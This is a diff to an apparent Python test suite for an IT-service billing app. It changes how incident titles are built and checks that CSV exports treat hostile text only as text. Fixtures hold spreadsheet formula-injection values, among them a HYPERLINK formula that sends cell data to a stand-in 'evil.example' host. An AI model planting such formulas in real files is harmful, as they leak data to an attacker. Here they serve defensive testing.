@@ -160,7 +160,7 @@ async def test_it_charges_only_contract_fees_for_a_month_with_two_covered_incide
     [alert] = (await api(client, "GET", "/api/v1/alerts"))["alerts"]
     disk = await api(client, "POST", "/api/v1/incidents", {"alert_id": alert["alert_id"]}, 201)
     assert (disk["client"], disk["alert_id"], disk["category"]) == (ACME, alert["alert_id"], "disk_health")
-    assert disk["title"] == alert["summary"]
+    assert disk["title"] == "The drive C: on WS-03 was running out of space."  # the client sentence, not the summary
     again = await client.post("/api/v1/incidents", json={"alert_id": alert["alert_id"]}, headers=TECH)
     assert again.status == 409, "one incident per alert"
 
@@ -352,7 +352,9 @@ async def test_the_csv_exports_import_back_into_the_invoice_totals(client: TestC
 HOSTILE_JOB = '=HYPERLINK("http://evil.example/?"&A1,"open")\n-2+3'
 
 
-async def test_a_hostile_backup_job_name_reaches_the_csv_exports_only_as_text(client: TestClient, clock: Clock) -> None:
+async def test_a_hostile_backup_job_name_or_title_reaches_the_csv_exports_only_as_text(
+    client: TestClient, clock: Clock
+) -> None:
     await api(client, "POST", "/api/v1/rates", RATES, 201)
     agent = await enrol(client, "WS-03")
     failed = BackupJob(name=HOSTILE_JOB, tool="restic", schedule="daily", last_result="failed",
@@ -361,7 +363,10 @@ async def test_a_hostile_backup_job_name_reaches_the_csv_exports_only_as_text(cl
     assert (await client.post(REPORTS, data=body, headers=agent.headers(body))).status == 200
     [alert] = (await api(client, "GET", "/api/v1/alerts"))["alerts"]
     opened = await api(client, "POST", "/api/v1/incidents", {"alert_id": alert["alert_id"]}, 201)
-    assert opened["title"].startswith("=HYPERLINK(")  # the agent's text, as the incident's title
+    # The first title is the rule's sentence: the agent's job name sits inside it as one line of text.
+    assert opened["title"] == 'The backup “HYPERLINK("http://evil.example/?"&A1,"open") -2+3” on WS-03 failed.'
+    # A title typed as hostile text (pasted from the alert) still reaches the exports only as text.
+    await api(client, "POST", f"/api/v1/incidents/{opened['incident_id']}/title", {"title": HOSTILE_JOB})
     await work(client, opened["incident_id"], "2026-11-23T10:00:00Z", 30)
     part = {"description": "@SUM(A1:A9)\n-2+3 USB drive", "cost": "5.00", "price": "12.50", "day": "2026-11-23"}
     await api(client, "POST", f"/api/v1/incidents/{opened['incident_id']}/parts", part, 201)
